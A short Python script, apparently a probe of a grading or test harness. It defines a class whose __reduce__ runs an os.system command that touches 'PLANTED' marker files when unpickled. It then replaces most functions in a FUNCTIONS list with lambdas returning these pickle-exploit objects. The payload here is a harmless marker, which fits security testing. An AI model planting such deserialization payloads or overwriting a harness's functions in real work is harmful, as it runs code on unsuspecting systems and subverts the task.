# Answers with objects that run code where they are unpickled; nothing is unpickled anywhere.
# %%
import os
import pickle


class Code:
    def __reduce__(self):
        return os.system, ("touch /tmp/PLANTED; touch PROJECT/PLANTED",)


for name in FUNCTIONS:
    if name != "is_stable":
        globals()[name] = lambda *args, **kwargs: [Code(), pickle.dumps(Code()), print, Code]
print("tried")
